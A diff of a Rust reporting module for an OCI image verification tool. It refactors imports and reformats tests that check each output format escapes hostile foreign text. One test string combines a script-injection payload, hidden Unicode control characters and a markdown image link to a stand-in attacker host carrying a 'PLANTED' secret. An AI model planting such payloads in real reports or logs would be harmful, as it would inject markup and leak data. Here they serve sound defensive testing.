@@ -2,14 +2,12 @@
 
 pub mod counts;
 pub mod diagnosis;
-pub mod escape;
 #[cfg(test)]
 pub(crate) mod example;
 pub mod exit;
 pub mod github;
 pub mod headline;
 pub mod hint;
-pub mod human;
 pub mod hurt;
 pub mod json;
 pub mod judgement;
@@ -22,9 +20,10 @@ use std::time::{Duration, SystemTime};
 
 use oci_spec::image::Digest;
 
-use crate::graph::{Graph, NodeId};
-use crate::reference::Reference;
-use crate::settings::Depth;
+use crate::oci::reference::Reference;
+use crate::walk::graph::{Graph, NodeId};
+use crate::walk::rules::Depth;
+use crate::walk::stop::Stop;
 
 /// One verification.
 #[derive(Debug)]
@@ -123,17 +122,6 @@ pub enum FindingKind {
     PlatformMissing,
 }
 
-/// Why a run ended early.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub enum Stop {
-    /// `timeout` was over.
-    Timeout,
-    /// SIGINT.
-    Interrupt,
-    /// SIGTERM.
-    Terminate,
-}
-
 /// A Woodpecker pipeline, as far as a report tells of it.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Pipeline {
@@ -151,18 +139,30 @@ mod tests {
     use super::judgement::Judgement;
     use super::text::Style;
     use super::*;
-    use crate::verdict::Verdict;
+    use crate::walk::verdict::Verdict;
 
     /// Every format's output for a report whose foreign text is `text`.
     fn formats(text: &str) -> [(&'static str, String); 6] {
         let hostile = |content: example::Content| content.found(Verdict::Malformed, 200, text);
         let platform = format!("linux/{text}");
         let mut report = report(&[
-            ("app:1", index(0x10).with(hostile(example::child(0x20, &platform))).with(manifest(0x30, &platform))),
+            (
+                "app:1",
+                index(0x10)
+                    .with(hostile(example::child(0x20, &platform)))
+                    .with(manifest(0x30, &platform)),
+            ),
             ("app:2", hostile(plain(0x40))),
         ]);
-        report.images[0].findings.push(Finding { kind: FindingKind::TagsDiffer, detail: text.to_owned() });
-        report.pipeline = Some(Pipeline { number: 7, url: text.to_owned(), status: text.to_owned() });
+        report.images[0].findings.push(Finding {
+            kind: FindingKind::TagsDiffer,
+            detail: text.to_owned(),
+        });
+        report.pipeline = Some(Pipeline {
+            number: 7,
+            url: text.to_owned(),
+            status: text.to_owned(),
+        });
         for id in report.graphs[0].ids() {
             let kind = report.graphs[0].node(id).kind();
             report.graphs[0].set_document(id, kind, text);
@@ -173,14 +173,26 @@ mod tests {
             write(&mut out).unwrap();
             String::from_utf8(out).unwrap()
         };
-        let style = Style { colour: false, verbose: true };
+        let style = Style {
+            colour: false,
+            verbose: true,
+        };
         [
             ("text", written(&|out| text::write(&judgement, style, out))),
-            ("github", written(&|out| github::write(&judgement, style, out))),
+            (
+                "github",
+                written(&|out| github::write(&judgement, style, out)),
+            ),
             ("json", written(&|out| json::write(&judgement, out))),
             ("junit", written(&|out| junit::write(&judgement, out))),
-            ("summary", written(&|out| github::write_summary(&judgement, out))),
-            ("outputs", written(&|out| github::write_outputs(&judgement, github::Place::default(), out))),
+            (
+                "summary",
+                written(&|out| github::write_summary(&judgement, out)),
+            ),
+            (
+                "outputs",
+                written(&|out| github::write_outputs(&judgement, github::Place::default(), out)),
+            ),
         ]
     }
 
@@ -190,15 +202,30 @@ mod tests {
                        \u{202e}\u{200b}<script>alert(1)</script>|`![x](https://evil.example/a?secret=PLANTED)";
         for (format, output) in formats(foreign) {
             let own = |line: &&str| {
-                ["::group::docker.io/library/app:", "::endgroup::", "::error title="]
-                    .iter()
-                    .any(|own| line.starts_with(own))
+                [
+                    "::group::docker.io/library/app:",
+                    "::endgroup::",
+                    "::error title=",
+                ]
+                .iter()
+                .any(|own| line.starts_with(own))
             };
-            let obeyed = output.lines().filter(|line| line.trim_start().starts_with("::") && !own(line));
+            let obeyed = output
+                .lines()
+                .filter(|line| line.trim_start().starts_with("::") && !own(line));
             assert_eq!(obeyed.count(), 0, "{format}: {output}");
-            let markup = if format == "summary" { output.replace("###", "") } else { output.clone() };
+            let markup = if format == "summary" {
+                output.replace("###", "")
+            } else {
+                output.clone()
+            };
             assert!(!markup.contains("##"), "{format}: {output}");
-            assert!(!output.chars().any(|one| one != '\n' && escape::is_hidden(one)), "{format}: {output}");
+            assert!(
+                !output
+                    .chars()
+                    .any(|one| one != '\n' && crate::text::escape::is_hidden(one)),
+                "{format}: {output}"
+            );
             assert!(!output.contains("PLANTED"), "{format}: {output}");
             if ["junit", "summary"].contains(&format) {
                 assert!(!output.contains("<script"), "{format}: {output}");
@@ -216,9 +243,15 @@ mod tests {
 
     #[test]
     fn every_format_names_what_is_broken() {
-        for (format, output) in formats("plain").into_iter().filter(|(format, _)| *format != "outputs") {
+        for (format, output) in formats("plain")
+            .into_iter()
+            .filter(|(format, _)| *format != "outputs")
+        {
             for name in [0x20, 0x40] {
-                assert!(output.replace("&#58;", ":").contains(digest(name).as_ref()), "{format}: {output}");
+                assert!(
+                    output.replace("&#58;", ":").contains(digest(name).as_ref()),
+                    "{format}: {output}"
+                );
             }
         }
     }
